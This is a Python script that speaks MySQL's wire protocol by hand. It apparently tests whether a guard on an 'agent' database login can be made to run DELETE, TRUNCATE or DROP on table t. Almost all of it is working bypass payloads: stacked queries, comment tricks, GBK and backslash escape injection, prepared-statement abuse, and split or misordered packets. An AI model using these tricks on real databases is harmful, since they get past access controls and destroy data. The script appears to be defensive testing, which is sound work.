"""Speaks MySQL's protocol by hand, in ways that no driver does: each trick tries to empty or drop the table t of the database shop."""
import hashlib, os, socket, struct, sys

PASSWORD = os.environ["MYSQL_PWD"].encode()


class Session:
    def __init__(self, capabilities=0, database=b"shop", rest=b""):
        self.wire = socket.create_connection(("db.example", 3306), timeout=30)
        number, greeting = self.packet()
        end = greeting.index(b"\0", 1)
        at = end + 1 + 4
        salt = greeting[at:at + 8]
        low, high = struct.unpack("<H", greeting[at + 9:at + 11])[0], struct.unpack("<H", greeting[at + 14:at + 16])[0]
        self.offered = high << 16 | low
        salt += greeting[at + 27:at + 39]
        one = hashlib.sha1(PASSWORD).digest()
        proof = bytes(a ^ b for a, b in zip(one, hashlib.sha1(salt + hashlib.sha1(one).digest()).digest()))
        flags = 0x000FA28D & ~0x20 | 1 << 16 | 1 << 17 | capabilities
        body = struct.pack("<IIB", flags, 1 << 24, 45) + bytes(23) + b"agent\0" + bytes([len(proof)]) + proof + database + b"\0mysql_native_password\0"
        self.send(body, 1, rest)
        number, answer = self.packet()
        assert answer[0] == 0, answer

    def read(self, count):
        data = b""
        while len(data) < count:
            more = self.wire.recv(count - len(data))
            if not more:
                raise EOFError
            data += more
        return data

    def packet(self):
        head = self.read(4)
        return head[3], self.read(int.from_bytes(head[:3], "little"))

    def send(self, body, number=0, rest=b""):
        self.wire.sendall(struct.pack("<I", len(body))[:3] + bytes([number]) + body + rest)

    def one(self):
        """The first packet of an answer, and how it is called."""
        number, body = self.packet()
        return {0: "ok", 255: "error"}.get(body[0], "rows"), body

    def query(self, text):
        """How the last of its answers is called."""
        self.send(b"\x03" + text)
        while True:
            kind, body = self.one()
            if kind == "error":
                return kind
            status = struct.unpack("<H", body[3:5])[0] if kind == "ok" else 0
            ends = 0
            while kind == "rows" and ends < 2:
                number, body = self.packet()
                if body[:1] == b"\xff":
                    return "error"
                if body[:1] == b"\xfe" and len(body) < 9:
                    ends += 1
                    status = struct.unpack("<H", body[3:5])[0]
            if status & 8 == 0:
                return kind


def framed(body, number=0):
    return struct.pack("<I", len(body))[:3] + bytes([number]) + body


def prepared(session, text):
    session.send(b"\x16" + text)
    kind, body = session.one()
    return struct.unpack("<I", body[1:5])[0] if kind == "ok" else None


def compression(session):
    assert session.offered & 0x20 == 0 and session.offered & 1 << 27 == 0
    session.wire.sendall(framed(b"\x03DELETE FROM t")[:3] + b"\0\0\0\0" + framed(b"\x03DELETE FROM t"))
    return session.one()[0]


def version_comment(session):
    return session.query(b"/*!50000 DROP TABLE t */"), session.query(b"/*M!100000 TRUNCATE t */"), session.query(b"SELECT 1 /*!; DELETE FROM t */")


def two_statements(session):
    return session.query(b"SELECT 1; DELETE FROM t")


def hidden_in_quotes(session):
    session.query(b"SET SESSION sql_mode = 'NO_BACKSLASH_ESCAPES'")
    first = session.query(b"SELECT 'a\\'; DELETE FROM t; -- '")
    session.query(b"SET SESSION sql_mode = ''")
    return first, session.query(b"SELECT 'a\\', '; DELETE FROM t; -- '")


def other_letters(session):
    session.query(b"SET NAMES gbk")
    return session.query(b"SELECT '\xbf\\'; DELETE FROM t; -- '"), session.query(b"SET NAMES gbk; SELECT '\xbf\\'; DELETE FROM t; -- '")


def prepared_statement(session):
    number = prepared(session, b"DELETE FROM t")
    session.send(b"\x17" + struct.pack("<IBI", number, 0, 1))
    first = session.one()[0]
    # MariaDB's number for the one that was prepared last, sent with it.
    session.wire.sendall(framed(b"\x16DELETE FROM t") + framed(b"\x17" + struct.pack("<IBI", 0xFFFFFFFF, 0, 1)))
    session.one()
    second = session.one()[0]
    session.send(b"\x17" + struct.pack("<IBI", 999, 0, 1))
    return first, second, session.one()[0]


def long_values(session):
    number = prepared(session, b"DELETE FROM t WHERE name <> ? OR 1")
    session.packet(), session.packet()
    session.send(b"\x18" + struct.pack("<IH", number, 0) + b"x" * 100)
    session.send(b"\x17" + struct.pack("<IBI", number, 0, 1) + b"\0\x01\xfd\0")
    return session.one()[0]


def prepared_by_name(session):
    session.query(b"PREPARE s FROM 'SELECT 1'")
    session.query(b"PREPARE S FROM 'DELETE FROM t'")
    first = session.query(b"EXECUTE s")
    session.query(b"SET @a = 'SELECT 1'")
    session.query(b"SELECT @a := 'DELETE FROM t'")
    session.query(b"PREPARE s FROM @a")
    return first, session.query(b"EXECUTE s"), session.query(b"EXECUTE IMMEDIATE CONCAT('DELETE ', 'FROM t')")


def another_database(session):
    session.send(b"\x02other")
    session.one()
    session.query(b"USE shop")
    return session.query(b"DELETE FROM t"), session.query(b"USE other; USE nowhere"), session.query(b"DELETE FROM shop.t")


def half_way(session):
    session.query(b"USE other")
    session.query(b"USE shop; SELECT nothing FROM nowhere")
    return session.query(b"DELETE FROM t")


def old_commands(session):
    session.send(b"\x06shop")
    first = session.one()[0]
    session.send(b"\x08\0")
    return first, session.one()[0]


def replication(session):
    session.send(b"\x12\x04\0\0\0\0\0\x01\0\0\0")
    return session.one()[0]


def in_pieces(session):
    # More than a packet holds, with the end in the next one.
    text = b"\x03SELECT '" + b"x" * (0xFFFFFF - 9) + b"'"
    session.wire.sendall(framed(text[:0xFFFFFF]) + framed(text[0xFFFFFF:] + b"; DELETE FROM t", 1))
    return session.one()[0]


def too_long(session):
    session.wire.sendall(framed(b"\x03DELETE FROM t " + b" " * (0xFFFFFF - 15)) + framed(b" " * (2 << 20), 1))
    return session.one()[0]


def out_of_order(session):
    session.wire.sendall(framed(b"\x03DELETE FROM t", 3))
    return session.one()[0]


def while_logging_in():
    # What comes ahead of the server's word is a command, and is judged.
    session = Session(rest=framed(b"\x03DELETE FROM t"))
    return session, session.one()[0]


TRICKS = [compression, version_comment, two_statements, hidden_in_quotes, other_letters, prepared_statement, long_values, prepared_by_name, another_database,
          half_way, old_commands, replication, in_pieces, too_long, out_of_order]


def run(name, trick):
    try:
        session, result = trick()
        try:
            # What it was told of its last words may still be on its way.
            alive = "goes on" if "rows" in (session.query(b"SELECT 1"), session.query(b"SELECT 1")) else "fails"
        except (EOFError, OSError):
            alive = "ended"
        print(name, result, alive)
    except socket.timeout:
        print(name, "hangs")
    except (EOFError, OSError):
        print(name, "ended")


for trick in TRICKS:
    def begun(trick=trick):
        session = Session()
        return session, trick(session)
    run(trick.__name__, begun)
run("while_logging_in", while_logging_in)
